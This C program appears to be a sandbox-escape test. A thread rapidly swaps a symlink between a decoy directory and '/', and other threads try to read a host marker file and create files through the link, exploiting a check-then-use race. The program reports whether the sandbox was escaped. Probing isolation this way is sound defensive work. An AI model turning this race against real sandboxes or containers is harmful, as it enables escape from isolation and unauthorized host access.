/* A thread flips a symlink between a harmless directory and "/" while
 * other threads open the marker and create files through it, hoping that a
 * check-then-use gap resolves "/" against the host's root. */
#include <pthread.h>
#include <stdatomic.h>
#include <sys/stat.h>
#include <time.h>
#include "escape.h"

static atomic_int stop, hits, writes;
static char through[4096], create_path[4096];

static void *flipper(void *arg)
{
	(void)arg;
	while (!atomic_load(&stop)) {
		symlink("harmless", "l.tmp");
		rename("l.tmp", "l");
		symlink("/", "l.tmp");
		rename("l.tmp", "l");
	}
	return NULL;
}

static void *opener(void *arg)
{
	(void)arg;
	char buf[256];
	while (!atomic_load(&stop)) {
		int fd = open(through, O_RDONLY | O_NONBLOCK);
		if (fd >= 0) {
			ssize_t n = read(fd, buf, sizeof(buf) - 1);
			if (n > 0 && !strncmp(buf, token, strlen(token)))
				atomic_fetch_add(&hits, 1);
			close(fd);
		}
		fd = open(create_path, O_CREAT | O_WRONLY, 0644);
		if (fd >= 0) {
			atomic_fetch_add(&writes, 1);
			close(fd);
			unlink(create_path);
		}
	}
	return NULL;
}

int main(int argc, char **argv)
{
	escape_args(argc, argv);
	if (marker_at("direct", AT_FDCWD, marker))
		escaped("marker readable without any trick");
	if (chdir(workdir) < 0 || (mkdir("harmless", 0755) < 0 && errno != EEXIST))
		skipped("cannot prepare WORKDIR");
	/* The decoy: same relative layout under "harmless", other contents. */
	snprintf(through, sizeof(through), "l%s", marker);
	snprintf(create_path, sizeof(create_path), "l%s/escaped-symlink_race", outside);

	pthread_t f, o[3];
	pthread_create(&f, NULL, flipper, NULL);
	for (int i = 0; i < 3; i++)
		pthread_create(&o[i], NULL, opener, NULL);
	struct timespec ts = {3, 0};
	nanosleep(&ts, NULL);
	atomic_store(&stop, 1);
	pthread_join(f, NULL);
	for (int i = 0; i < 3; i++)
		pthread_join(o[i], NULL);
	printf("marker reads through the flipping link: %d\n", atomic_load(&hits));
	printf("creates under OUTSIDE (kept inside the sandbox if any): %s\n",
	       atomic_load(&writes) ? "some" : "none");
	if (atomic_load(&hits))
		escaped("read the host marker through the racing symlink");
	contained("the racing symlink never reached the host marker");
}
